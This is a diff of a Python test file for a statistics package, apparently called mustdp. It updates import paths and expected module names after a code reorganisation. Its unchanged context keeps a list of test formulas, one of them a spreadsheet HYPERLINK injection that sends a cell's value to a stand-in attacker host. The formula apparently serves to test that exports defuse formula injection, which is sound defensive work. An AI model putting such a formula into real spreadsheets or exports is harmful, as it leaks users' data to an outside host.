@@ -15,7 +15,7 @@ import pytest
 
 import mustdp as md
 from mustdp.cli.main import main
-from mustdp.numerics.exports import csv_table, latex_text, one_line, spreadsheet_text
+from mustdp.numerics.formatting import csv_table, latex_text, one_line, spreadsheet_text
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -76,7 +76,7 @@ def test_other_texts_stay(text: str) -> None:
 def test_a_release_with_hostile_names(name: str) -> None:
     pandas = pytest.importorskip("pandas")
     pytest.importorskip("matplotlib")
-    from mustdp.report.released import release_page
+    from mustdp.reporting.release_page import release_page
 
     rng = np.random.default_rng(0)
     frame = pandas.DataFrame({name: rng.uniform(0, 1, 60), "kind": [name, "b"] * 30})
@@ -152,8 +152,12 @@ def test_every_csv_of_the_package_is_written_in_one_place() -> None:
         for path in sources.rglob("*.py")
         if writing.search(path.read_text(encoding="utf-8"))
     }
-    assert found == {"numerics/exports.py", "releasing/result.py", "explorer/shown.py"}
-    for name in found - {"numerics/exports.py"}:
+    assert found == {
+        "numerics/formatting.py",
+        "estimation/release/result.py",
+        "reporting/explorer/answers.py",
+    }
+    for name in found - {"numerics/formatting.py"}:
         text = (sources / name).read_text(encoding="utf-8")
         assert "csv_table(" in text
         assert "latex_text" in text
